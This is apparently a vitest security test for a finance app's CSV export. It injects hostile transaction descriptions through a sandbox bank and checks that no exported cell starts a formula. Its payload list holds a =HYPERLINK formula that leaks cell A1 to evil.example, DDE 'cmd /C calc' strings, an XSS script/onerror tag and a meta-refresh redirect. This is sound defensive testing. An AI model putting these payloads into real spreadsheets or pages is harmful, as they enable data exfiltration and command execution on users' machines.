/**
 * N8 of the security review of 3b75e6a: no cell of an export, split on `,`, `;` or tab (with
 * or without honouring quotes), starts with a formula character; amounts and the bank's ids
 * export unchanged. The review's payloads are injected as pending transactions through the
 * sandbox bank's /simulation, synced, and exported through the real IPC router; the review
 * report's CSV goes through the same cells.
 */
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KeyringSecretStore } from '../../src/main/services/credentials/keyringSecretStore.ts';
import { startSandbox, type RunningSandbox } from '../../src/sandbox/index.ts';
import { makeTempFolder } from '../integration/services/support/tempFolder.ts';
import { startHarness, syncPending, type Harness } from './support/harness.ts';

const secretServiceHere = process.env['LEDGERDESK_TEST_SECRET_SERVICE'] === '1';

const PAYLOADS = [
  'ZQXMARKER </pre><script>alert(1)</script><img src=http://127.0.0.1:9/x onerror=alert(2)>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'Coffee;=1+1;-2+3',
  'Coffee\t=1+1',
  ' =1+1',
  '＝1+1 (fullwidth)',
  '"=1+1',
  'Coffee,@SUM(1)',
  'Lunch;  +1+1',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
];
const FORMULA = /^ *[=+\-@\t\r\0＝＋－＠]/;
const NUMBER = /^-?[0-9]+([.][0-9]+)?$/;
const BANK_ID = /^-[A-Za-z0-9_-]{9,}$/;

/** The cells of a CSV line as an importer that honours quotes reads them. */
function quotedCells(line: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < line.length; index += 1) {
    const char = line[index] ?? '';
    if (quoted) {
      if (char === '"' && line[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === '') quoted = true;
    else if (char === separator) {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  cells.push(cell);
  return cells;
}

/** Every cell an importer could make of a line: on `,`, `;` or tab, honouring quotes or not. */
function pieces(line: string): string[] {
  return [',', ';', '\t'].flatMap((separator) => [...line.split(separator), ...quotedCells(line, separator)]);
}

describe.skipIf(!secretServiceHere)('N8: no exported cell starts a formula', () => {
  const store = new KeyringSecretStore(`Ledgerdesk-test-n8-${randomUUID()}`);
  let temp: { folder: string; remove: () => void };
  let sandbox: RunningSandbox;
  let harness: Harness;
  let profileId: string;
  let accountId: string;

  beforeAll(async () => {
    temp = makeTempFolder('ledgerdesk-n8-');
    sandbox = await startSandbox({ port: 0, dataFile: ':memory:', pendingTransactionsPerAccount: 2 });
    harness = await startHarness(temp.folder, sandbox, store);
    profileId = (await harness.api.profiles.list()).activeProfileId ?? '';
    accountId = (await harness.api.accounts.list({ profileId })).rows[0]?.id ?? '';
    for (const desc of PAYLOADS) {
      const answer = await fetch(`${sandbox.baseUrl}/simulation`, {
        method: 'POST',
        headers: {
          authorization: `Basic ${Buffer.from(`${sandbox.keyId}:${sandbox.keySecret}`).toString('base64')}`,
          'content-type': 'application/json',
          'idempotency-key': randomUUID(),
        },
        body: JSON.stringify({
          type: 'account.pending_transaction',
          simulation: { account_id: accountId, amount: '-12.34', desc },
        }),
      });
      expect(answer.status).toBeLessThan(300);
    }
    await syncPending(harness.api, profileId, accountId);
  });

  afterAll(async () => {
    await harness.stop();
    await sandbox.close();
    temp.remove();
  });

  function check(csv: string): void {
    for (const line of csv.split('\r\n').slice(1)) {
      for (const piece of pieces(line)) {
        if (NUMBER.test(piece) || BANK_ID.test(piece)) continue;
        expect(piece, `a cell of: ${line}`).not.toMatch(FORMULA);
      }
    }
  }

  it('the pending transactions export and the review report', async () => {
    const page = await harness.api.pendingTransactions.list({ profileId, accountId, limit: 100 });
    const marked = page.rows.filter((row) =>
      PAYLOADS.some((payload) => JSON.stringify(row).includes(JSON.stringify(payload.trim()).slice(1, 9))),
    );
    const missing = PAYLOADS.filter(
      (payload) => !page.rows.some((row) => JSON.stringify(row).includes(JSON.stringify(payload.trim()).slice(1, 9))),
    );
    expect(missing).toEqual([]);
    expect(marked.length).toBeGreaterThanOrEqual(PAYLOADS.length);
    await harness.api.reviews.give({
      profileId,
      kind: 'pending-transaction',
      refs: page.rows.map((row) => row.ref ?? ''),
      disposition: 'flagged',
      note: 'Lunch;=1+1',
    });
    const exported = await harness.api.exports.pendingTransactions({ profileId, accountId, format: 'csv' });
    const csv = readFileSync(exported.path ?? '', 'utf8');
    expect(csv).toContain('-12.34');
    check(csv);
    const report = await harness.api.reviews.saveReport({ profileId, format: 'csv' });
    check(readFileSync(report.path ?? '', 'utf8'));
  });
});
